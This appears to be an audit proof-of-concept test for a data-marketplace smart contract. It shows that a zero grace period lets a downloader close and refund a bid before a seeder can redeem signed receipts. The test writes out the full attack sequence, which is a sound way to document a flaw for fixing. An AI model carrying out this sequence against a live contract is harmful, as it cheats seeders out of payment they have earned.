// Attack (issue 11, item 10): the owner may set `minGrace` to 0. A downloader then opens a bid
// with no grace period, takes a seeder's data against signed receipts, closes the bid and
// refunds it one second later: the seeder's receipts can no longer be redeemed.
import { expect } from "chai";
import { network } from "hardhat";
import { DAY, deploySpeed, MIB, receipt, UNIT, V2_HASH } from "../speed/fixtures.js";

const { ethers, networkHelpers } = await network.create();
const { loadFixture, time } = networkHelpers;

async function speed() {
  return deploySpeed(ethers);
}

describe("attack: a zero grace period cancels a seeder's signed receipts", () => {
  it("PoC: setGraceBounds(0, ..) is accepted; close then refund a second later beats the seeder", async () => {
    const f = await loadFixture(speed);
    await f.market.connect(f.owner).setGraceBounds(0n, DAY);
    const expiry = BigInt(await time.latest()) + DAY;
    await f.market.connect(f.alice).openBid(V2_HASH, 2, UNIT, 10n * UNIT, expiry, 0n);
    // The seeder delivered 5 MiB and holds the downloader's signed receipt for it.
    const r = await receipt(f.alice, f.domain, 1n, f.s1.address, 5n * MIB);
    await f.market.connect(f.alice).closeBid(1n);
    await f.market.connect(f.alice).refundBid(1n);
    const until = await f.market.redeemableUntil(1n);
    await expect(f.market.redeem(r))
      .to.be.revertedWithCustomError(f.market, "SpeedBidNotRedeemable")
      .withArgs(1n, until);
    console.log(`      seeder signed for ${5n * UNIT}, got 0; downloader refunded ${10n * UNIT}`);
    expect(await f.vault.balanceOf(f.alice.address)).to.equal(1_000n * UNIT);
  });
});
